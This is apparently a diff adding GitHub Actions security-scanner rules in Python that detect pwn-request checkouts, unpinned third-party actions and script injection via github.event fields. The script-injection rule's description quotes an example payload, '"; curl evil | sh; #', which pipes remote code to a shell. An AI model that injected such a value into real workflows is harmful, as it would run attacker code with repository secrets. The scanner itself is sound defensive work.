@@ -1,0 +1,141 @@
+"""GitHub Actions: untrusted pull-request code with privileged triggers, unpinned third-party
+actions, and script injection through `${{ github.event.* }}`.
+
+Token permissions are MLC-GHA-003 (rego/github/permissions.rego)."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+
+from scanner import gha
+from scanner.context import ScanContext
+from scanner.documents import Document
+from scanner.findings import Hit
+from scanner.pyrules import PythonRule
+
+_PRIVILEGED_TRIGGERS = {"pull_request_target", "workflow_run"}
+# Expressions that name the pull request's (attacker-controlled) head.
+_PR_HEAD = re.compile(
+    r"pull_request\.head\.(sha|ref)|github\.head_ref|workflow_run\.head_(sha|branch)|refs/pull/|"
+    r"merge_commit_sha"
+)
+_PR_CHECKOUT_CMD = re.compile(r"gh\s+pr\s+checkout|git\s+fetch\s+\S+\s+(\+?refs/)?pull/")
+_FULL_SHA = re.compile(r"@[0-9a-f]{40}$")
+# github.event fields that hold numbers, ids or hashes, never free text.
+_SAFE_EVENT_FIELD = re.compile(
+    r"\.(number|id|[a-z_]+_id|sha|[a-z_]+_sha|run_number|run_attempt|created_at|updated_at|merged|draft)$"
+)
+
+
+class PrivilegedTriggerChecksOutPr(PythonRule):
+    id = "MLC-GHA-001"
+    title = "pull_request_target / workflow_run checks out pull request code"
+    severity = "high"
+    category = "supply-chain"
+    nist_ai_rmf = ("MEASURE 2.7", "GOVERN 6.1", "MANAGE 3.1")
+    description = (
+        "A workflow triggered by `pull_request_target` or `workflow_run` runs with the base "
+        "repository's secrets and a write token, and it checks out the pull request's head. Any "
+        "build script, test or dependency file in a fork's pull request then runs with those "
+        'privileges (a "pwn request").'
+    )
+    remediation = (
+        "Build untrusted code under the `pull_request` trigger (no secrets); if results must be "
+        "published, pass them as artifacts to a separate `workflow_run` job that never checks "
+        "out or executes the pull request's files."
+    )
+    input_kinds = ("github-workflow",)
+    references = ("https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",)
+
+    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
+        trigger = sorted(gha.triggers(doc.data) & _PRIVILEGED_TRIGGERS)
+        if not trigger:
+            return
+        for _, step, pointer in gha.steps(doc.data):
+            action = str(step.get("uses", ""))
+            ref = step.get("with", {}).get("ref", "") if isinstance(step.get("with"), dict) else ""
+            run = str(step.get("run") or "")
+            checks_out_head = action.startswith("actions/checkout@") and _PR_HEAD.search(str(ref))
+            if checks_out_head or _PR_CHECKOUT_CMD.search(run):
+                yield Hit(f"{trigger[0]} workflow checks out the pull request's code", pointer=pointer)
+
+
+class ActionNotPinned(PythonRule):
+    id = "MLC-GHA-002"
+    title = "Third-party action not pinned to a commit SHA"
+    severity = "medium"
+    category = "supply-chain"
+    nist_ai_rmf = ("GOVERN 6.1", "MANAGE 3.1", "MAP 4.1")
+    description = (
+        "A step or reusable workflow uses a third-party action by tag or branch. Tags and branches "
+        "move: whoever controls the action's repository can change the code that runs with this "
+        "workflow's secrets and token (as in the tj-actions/changed-files compromise)."
+    )
+    remediation = (
+        "Pin to the full 40-character commit SHA, keeping the tag as a comment "
+        "(`uses: owner/action@<sha> # v4.2.0`), and let Dependabot or Renovate update the pin. "
+        "Trusted owners are set by the rule option `trusted_owners` (default: actions, github)."
+    )
+    input_kinds = ("github-workflow",)
+    references = (
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
+    )
+
+    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
+        trusted = {str(o).lower() for o in ctx.option(self.id, "trusted_owners", ["actions", "github"])}
+        for ref, pointer in gha.uses(doc.data):
+            if ref.startswith("./") or _FULL_SHA.search(ref):
+                continue
+            if ref.startswith("docker://"):
+                if "@sha256:" not in ref:
+                    yield Hit(f"container action {ref!r} is not pinned by digest", pointer=pointer)
+                continue
+            if ref.split("/", 1)[0].lower() in trusted:
+                continue
+            yield Hit(f"action {ref!r} is not pinned to a full commit SHA", pointer=pointer)
+
+
+class ScriptInjection(PythonRule):
+    id = "MLC-GHA-004"
+    title = "Untrusted event data interpolated into a script"
+    severity = "high"
+    category = "supply-chain"
+    nist_ai_rmf = ("MEASURE 2.7", "GOVERN 6.1")
+    description = (
+        "A `run:` script (or an `actions/github-script` script) interpolates `${{ github.event.* }}` "
+        "or `${{ github.head_ref }}`. The expression is pasted into the script before the shell "
+        'sees it, so a pull request title, branch name or comment like `"; curl evil | sh; #` '
+        "runs as code with the workflow's secrets."
+    )
+    remediation = (
+        "Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request."
+        'title }}`) and use `"$TITLE"` in the script.'
+    )
+    input_kinds = ("github-workflow",)
+    references = (
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+    )
+
+    def check(self, doc: Document, ctx: ScanContext) -> Iterable[Hit]:
+        for _, step, pointer in gha.steps(doc.data):
+            scripts = [("run", step.get("run"))]
+            if str(step.get("uses", "")).startswith("actions/github-script@") and isinstance(step.get("with"), dict):
+                scripts.append(("with/script", step["with"].get("script")))
+            for field, script in scripts:
+                if not isinstance(script, str):
+                    continue
+                bad = sorted({e for e in gha.expressions(script) if _untrusted(e)})
+                if bad:
+                    where = (*pointer, *field.split("/"))
+                    yield Hit(f"{field} interpolates untrusted {', '.join(bad)}", pointer=where)
+
+
+def _untrusted(expr: str) -> bool:
+    for name in re.findall(r"github\.(?:event\b(?:\.[\w.*\-\[\]'\"]+)?|head_ref\b)", expr):
+        if name == "github.head_ref" or not _SAFE_EVENT_FIELD.search(name):
+            return True
+    return False
+
+
+RULES = [PrivilegedTriggerChecksOutPr, ActionNotPinned, ScriptInjection]
